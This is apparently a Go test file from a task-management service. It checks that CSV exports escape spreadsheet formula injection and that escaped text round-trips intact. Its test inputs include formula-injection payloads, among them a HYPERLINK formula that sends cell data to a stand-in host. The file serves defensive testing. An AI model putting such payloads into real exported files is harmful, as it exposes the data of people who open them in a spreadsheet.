package exchange

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/taskwire/taskwire/pkg/events"
	"github.com/taskwire/taskwire/services/task-api/internal/domain"
)

// formulaTexts has formulas, and texts that look like formulas.
var formulaTexts = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "＝1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "''", "'tis", "''tis", "'+", "=", "-- \"q\", x",
	"a=1", " =1", "1-1", "",
}

func TestCSVHasNoFormulasAndLosesNoText(t *testing.T) {
	descriptions := append([]string{"\t=1", "\n=1", "'\t"}, formulaTexts...)
	for i, description := range descriptions {
		title := strings.TrimSpace(formulaTexts[i%len(formulaTexts)])
		if title == "" {
			title = "x"
		}
		var file bytes.Buffer
		w, err := NewWriter(CSV, &file)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(domain.Task{TaskData: events.TaskData{Title: title, Description: description, Tags: []string{"=tag"}, Priority: events.PriorityMedium, Status: events.StatusPending}}); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("%q: got %d records, %v", description, len(records), err)
		}
		for _, cell := range records[1] {
			if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
				t.Errorf("title %q, description %q: the cell %q is a formula in a spreadsheet", title, description, cell)
			}
		}
		r, err := NewReader(CSV, bytes.NewReader(file.Bytes()), options)
		if err != nil {
			t.Fatal(err)
		}
		item, err := r.Next()
		if err != nil {
			t.Fatalf("%q: %v", description, err)
		}
		if got, want := titleAndDescription(t, item), [2]string{title, description}; got != want {
			t.Errorf("after a round trip: got %q, want %q", got, want)
		}
	}
}

func TestCarriageReturnsAreEscaped(t *testing.T) {
	// csv.Reader converts \r\n to \n, so the test above cannot cover this.
	for _, text := range []string{"\r=1", "\r", "'\r"} {
		if got := escapeFormula(text); got != "'"+text || unescapeFormula(got) != text {
			t.Errorf("escapeFormula(%q): got %q, and back %q", text, got, unescapeFormula(got))
		}
	}
}

// TestApostropheOfOtherProgramsIsKept checks that only Taskwire's own files are unescaped.
func TestApostropheOfOtherProgramsIsKept(t *testing.T) {
	r, err := NewReader(CSV, strings.NewReader("TYPE,CONTENT,DESCRIPTION\ntask,'=x,'-y\n"), options)
	if err != nil {
		t.Fatal(err)
	}
	item, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := titleAndDescription(t, item), [2]string{"'=x", "'-y"}; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func titleAndDescription(t *testing.T, item Item) (out [2]string) {
	t.Helper()
	for i, name := range []string{"title", "description"} {
		if err := json.Unmarshal(item.Fields[name], &out[i]); err != nil {
			t.Fatalf("%s: %v in %s", name, err, item.Fields[name])
		}
	}
	return out
}

func FuzzEscapeFormula(f *testing.F) {
	for _, text := range formulaTexts {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := escapeFormula(text)
		if unescapeFormula(got) != text || strings.IndexAny(got, formulas) == 0 {
			t.Errorf("escapeFormula(%q): got %q, and back %q", text, got, unescapeFormula(got))
		}
	})
}
